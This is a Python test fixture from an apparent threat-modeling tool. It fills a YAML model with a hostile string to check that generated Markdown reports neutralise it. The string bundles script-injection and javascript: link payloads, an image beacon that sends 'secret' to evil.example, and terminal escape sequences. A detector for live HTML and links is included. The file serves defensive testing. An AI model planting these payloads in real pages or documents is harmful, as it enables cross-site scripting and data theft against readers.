"""A model whose every free-text field carries hostile content, for output-safety tests."""

from __future__ import annotations

import re
from html.parser import HTMLParser

from tmcode.model.export import model_to_yaml
from tmcode.model.load import load_model_text

PAYLOAD = (
    "<script>document.title='pwned'</script>"
    "<img src=x onerror=\"document.title='pwned'\">"
    '[click me](javascript:alert(1)) <a href="javascript:alert(2)">a</a> '
    "![beacon](https://evil.example/b.png?d=secret) data:text/html;base64,PHNjcmlwdD4= "
    '@everyone | pipe ` tick "quote" \'apos\' \\l \\n dot-break \\" esc '
    "\"]; click n0 call alert(); %%{init: {'securityLevel':'loose'}}%% "
    "\x1b[31mANSI\x1b]0;title\x07 end\r\nnext line"
)
MARKERS = ["document.title='pwned'", "javascript:alert"]


def payload_model_text() -> str:
    """Return the YAML of the payload model (it validates; only its text is hostile)."""
    text = """
tmcode: 1
system:
  name: X
  description: X
  owner: X
  lifecycle: production
boundaries:
  internet: {trust: untrusted, name: X, description: X, kind: X}
  corp: {trust: internal, name: X}
data:
  pii: {classification: confidential, tags: [pii], name: X, description: X}
components:
  web: {kind: external_content, boundary: internet, name: X, description: X, content: web}
  user: {kind: user, boundary: internet, name: X, owner: X, audience: public}
  chat: {kind: ui, boundary: corp, name: X, renders: [html, images]}
  llm: {kind: llm, boundary: corp, name: X, provider: X, model: X, version: X, tags: [X], code: X}
  kb: {kind: vector_store, boundary: corp, name: X, stores: [pii]}
  mcp: {kind: mcp_server, boundary: corp, name: X, tools: [X], source: community, transport: http}
  agent:
    kind: agent
    boundary: corp
    name: X
    model: llm
    tools:
      mcp: {scopes: [read, send], description: X, controls: [{id: human_approval, status: planned, evidence: X}]}
      kb: {scopes: [read]}
flows:
  - {from: user, to: chat, kind: prompt, protocol: X, description: X}
  - {from: chat, to: agent, kind: prompt}
  - {from: agent, to: chat, kind: output}
  - {from: web, to: kb, kind: ingest, data: [pii]}
decisions:
  - {threat: SC-007, target: system, status: accepted, reason: X, owner: X, ticket: X, expires: 2030-01-01}
  - {threat: PI-001, target: llm, status: false_positive, reason: X}
"""
    import json

    return text.replace(": X", ": " + json.dumps(PAYLOAD)).replace(
        "[X]", "[" + json.dumps(PAYLOAD) + "]"
    )


def check_payload_model_loads() -> None:
    """Fail loudly if the payload model stops being a valid model."""
    loaded = load_model_text(payload_model_text(), "payload.yaml")
    assert loaded.model.system.name == PAYLOAD
    assert model_to_yaml(loaded.model)


# Raw HTML the Markdown report writes itself; any other tag came from model text.
_OWN_TAGS = {"details", "summary", "br", "code"}
# What GitHub turns into links or notifications after rendering, in text outside code.
_GITHUB_LIVE = re.compile(r"://|www\.|(?<![\w`])@[A-Za-z0-9]|#\d|\bGH-\d", re.IGNORECASE)


class _RenderedMarkdown(HTMLParser):
    """Collects what rendered Markdown makes live: elements, and text outside code."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.live: list[str] = []
        self.in_code = 0
        self.html_blocks: list[str] = []

    def handle_starttag(self, tag: str, attrs: list) -> None:
        if tag in ("code", "pre"):
            self.in_code += 1
        if tag in ("a", "img", "script", "iframe", "svg", "object", "embed", "form", "input"):
            self.live.append(f"<{tag} {attrs}>")

    def handle_endtag(self, tag: str) -> None:
        if tag in ("code", "pre"):
            self.in_code -= 1

    def handle_data(self, data: str) -> None:
        if not self.in_code:
            self.live += [
                f"text {m.group()!r} in {data[:80]!r}" for m in _GITHUB_LIVE.finditer(data)
            ]


def live_markdown(markdown: str) -> list[str]:
    """What GitHub would make live in ``markdown``: links, images, HTML, mentions, autolinks.

    The Markdown is rendered as CommonMark with tables (markdown-it); raw HTML other than the
    report's own, any link or image element, and any URL, `www.`, mention or issue reference
    in text outside code (where GitHub's autolink and mention filters act) are returned, and
    so is any hidden character (control, bidi or zero-width).
    """
    from markdown_it import MarkdownIt

    from tmcode.render.escape import HIDDEN

    found = [f"hidden {m.group()!r}" for m in HIDDEN.finditer(markdown.replace("\n", ""))]
    md = MarkdownIt("commonmark").enable("table")
    for token in md.parse(markdown):
        for inline in [token, *(token.children or [])]:
            if inline.type in ("html_inline", "html_block"):
                tags = re.findall(r"</?([A-Za-z][A-Za-z0-9-]*)", inline.content)
                found += [f"raw HTML <{t}>" for t in tags if t.lower() not in _OWN_TAGS]
    scan = _RenderedMarkdown()
    scan.feed(md.render(markdown))
    return found + scan.live
